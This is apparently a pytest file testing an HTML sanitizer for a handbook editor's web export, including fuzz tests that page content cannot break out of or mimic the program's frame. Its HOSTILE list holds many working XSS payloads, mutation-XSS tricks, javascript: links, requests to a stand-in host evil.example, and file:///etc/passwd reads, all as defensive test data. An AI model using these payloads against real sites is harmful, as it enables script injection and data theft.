"""No page of a handbook has a way out of its web page, and none can imitate what the program shows."""

import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from web_checks import handbook_of, read_html, seen, web

from jfeditor.export.web_links import PAGE
from jfeditor.export.web_safety import safe_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT\n>alert(1)</SCRIPT\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<style>body{background:url(//evil.example)}</style>",
    "<style>@import 'http://evil.example/x.css';",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example/'>",
    "<iframe src=http://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=file:///etc/passwd></object>",
    "<embed src=//evil.example/x.swf>",
    "<video src=file:///etc/passwd poster=//evil.example/p.png autoplay></video>",
    "<audio><source src=//evil.example/x.mp3></audio>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'>",
    '<img src="x" ONERROR="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    "<img src=\\\\evil.example\\x.png>",
    "<img src=http:\\\\evil.example\\x.png>",
    "<img src=file:///etc/passwd>",
    "<img src=../../../etc/passwd>",
    "<img src=..%2f..%2fsecret.png>",
    "<img srcset='//evil.example/x.png 2x' src=x>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img style='background:url(//evil.example)' src=x>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<div background=//evil.example/x>x</div>",
    "<table background=//evil.example/x><tr><td background=//evil.example/y>x</table>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=' \xa0javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='view-source:file:///etc/passwd'>x</a>",
    "<a href='blob:x'>x</a>",
    "<a href='handbook://page/style.css'>x</a>",
    "<a href='page:../../etc/passwd'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a ping=//evil.example href=#x target=_blank onclick=alert(1)>x</a>",
    "<area href=javascript:alert(1)>",
    "<form action=//evil.example method=post><input name=x><button formaction=//evil.example>go</button>",
    "<input type=image src=//evil.example/x.png>",
    "<input autofocus onfocus=alert(1)>",
    "<isindex action=//evil.example>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><image href=//evil.example/x.png /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=//evil.example ?>",
    "<!DOCTYPE html SYSTEM '//evil.example'>",
    "<a title='</a><img src=x onerror=alert(1)>' href=#x>x</a>",
    "<abbr title='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</abbr>",
    "<p id='x\" onclick=\"alert(1)'>x</p>",
    "<details ontoggle=alert(1) open><summary>x</summary>y</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)><frameset><frame src=//evil.example></frameset>",
    "<x-evil is=script onclick=alert(1)>x</x-evil>",
    "<div data-line=1 class='jf-insert jf-from1' data-key=x>From the Director</div>",
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)',
    "</div></div></div></details></ul></li><img src=x onerror=alert(1)>",
    "[x](javascript:alert%281%29)",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](\\\\evil.example\\x)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](//evil.example/x.png)",
    "![x](file:///etc/passwd)",
    "![x](../../../../etc/passwd)",
    '![x](x.png "a\' onerror=alert(1)")',
    '[x](#a "\\" onclick=\\"alert(1)")',
    "{{< youtube \"x' onmouseover='alert(1)\" >}}",
    '{{< youtube "\\"><script>alert(1)</script>" >}}',
    '{{< figure src="//evil.example/x.png" link="javascript:alert(1)" caption="<script>x</script>" >}}',
    '{{< iframe "javascript:alert(1)" >}}',
    '{{< ref "javascript:alert(1)" >}}',
    '{{% panel header="<img src=x onerror=alert(1)>" %}}\n<script>alert(1)</script>\n{{% /panel %}}',
    '{{< details summary="</summary><script>alert(1)</script>" >}}\nx\n{{< /details >}}',
    '{{< "><script>alert(1)</script> >}}',
    "<%= '<script>alert(1)</script>' %>",
    '# <img src=x onerror=alert(1)> {#x"onclick=alert(1)}',
    "```<script>alert(1)</script>\n<script>alert(1)</script>\n```",
    "| <img src=x onerror=alert(1)> |\n|---|\n| </table><script>alert(1)</script> |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "\ue0000\ue001<a href='\ue0001\ue001'>x</a>",
]
HOSTILE_MATTER = """---
title: "<script>alert(1)</script>"
description: "<img src=x onerror=alert(1)>"
---
"""
CONTEXTS = [
    "{}",
    "- item {}\n",
    "> {}\n",
    "<div>\n\n{}\n\n</div>",
    "para {} para",
    "<table><tr><td>{}</td></tr></table>",
]


@pytest.mark.parametrize("context", CONTEXTS)
def test_a_hostile_page_has_no_way_out(context: str, tmp_path: Path) -> None:
    (tmp_path / "secret.png").write_bytes(b"x")
    root = tmp_path / "handbook"
    root.mkdir()
    for sample in HOSTILE:
        page = f"{HOSTILE_MATTER}\n{context.format(sample)}\n\nThe end.\n"
        html = seen(page, root)
        assert not html.faults, (sample, html.faults)
        assert not [one for one in html.elements if one.attributes.get("src")], sample
        assert not html.of_class("jf-insert"), sample
        for one in html.elements:
            address = one.attributes.get("href", "")
            assert not address.startswith(PAGE), (sample, address)


@pytest.mark.parametrize("data_images", [False, True])
def test_the_last_gate_holds_alone(data_images: bool) -> None:
    for sample in HOSTILE:
        for html in (
            sample,
            f"<div class=jf-body><p>{sample}</p></div>",
            f"<svg>{sample}",
            f"<table>{sample}",
        ):
            found = read_html(safe_html(html, data_images=data_images), data_images=data_images)
            assert not found.faults, (html, found.faults)


def test_hostile_content_stays_in_its_place_where_it_is_inherited() -> None:
    for sample in HOSTILE:
        source = f"### Pilot\n\n#### Requirements\n\n- Swims {sample.partition(chr(10))[0]}\n- Dives\n"
        text = f"{source}\n### Lead\n\n#### Requirements\n\n- Extends the [Pilot](#pilot) requirements\n"
        html = read_html(web(handbook_of(a__page=text), "a/page.md").body_html)
        assert not html.faults, (sample, html.faults)


_TAGS = (
    "<div> </div> <details> </details> <summary> </summary> <ul> <li> </li> </ul> <table> <tr> <td> </td>"
    " </tr> </table> </p> <b> </b> </a> <svg> </svg> <style> </style> <script> </script> <math> <textarea>"
    " </span> </h2> <!-- --> words *em* `code` < > ' &lt; </iframe>"
)
_PARTS = [
    *_TAGS.split(),
    "<div class='jf-insert jf-from1' data-key='x'>",
    "<details class=jf-insert open>",
    "<p class=via>",
    "<a class=source1 href='#x'>",
    "<span data-line=777 class=jf-changed>",
    "<h2 id=q>",
    "<input checked>",
    "<iframe src='https://x.example'>",
    "<img src=x",
    '"',
    "\n\n",
    "\n",
    "- item\n",
    "> quote\n",
    "\n\n## Title\n\n",
    "{{< note >}}",
    "{{< /note >}}",
]
_RAW = st.lists(st.sampled_from(_PARTS), max_size=25)


@settings(deadline=None, max_examples=150)
@given(_RAW)
def test_no_page_can_imitate_what_the_program_shows(parts: list[str]) -> None:
    html = seen("---\ntitle: T\n---\n\nStart.\n\n" + "".join(parts) + "\n\nThe end.\n")
    assert not html.faults
    assert not html.of_class("jf-insert")
    assert not html.of_class("jf-changed")
    assert not any(
        "data-key" in one.attributes
        for one in html.elements
        if "jf-contents-box" not in one.attributes.get("class", "")
    )
    assert not [
        one for one in html.elements if re.search(r"\bsource\d|\bvia\b", one.attributes.get("class", ""))
    ]
    assert [one.above for one in html.of_class("jf-body")] == [("jf-sheet",)], "the frame stays whole"
    sheets = [one for one in html.elements if not one.above]
    assert [one.attributes.get("class") for one in sheets] == ["jf-sheet"], "nothing gets out of it"
    lines = [int(one.attributes["data-line"]) for one in html.elements if "data-line" in one.attributes]
    assert 777 not in lines


@pytest.mark.parametrize("depth", [300, 3000])
def test_deep_and_wide_raw_html_is_shown_in_time(depth: int) -> None:
    html = seen("<div>" * depth + "x" + "</div>" * depth + "\n\n" + "<b>" * depth + "y" + "</i>" * depth)
    assert not html.faults
    assert "x" in html.text
    assert "y" in html.text
